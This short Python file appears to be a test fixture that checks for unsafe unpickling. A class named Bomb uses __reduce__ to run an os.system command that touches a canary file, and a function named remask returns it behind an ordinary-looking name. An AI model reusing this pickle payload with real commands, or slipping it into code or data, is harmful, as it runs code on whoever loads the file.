"""Gives an object that runs code when it is unpickled."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch {canary}.pickle",)


def remask(tokens, confidence, counts, mask_id):
    return Bomb()
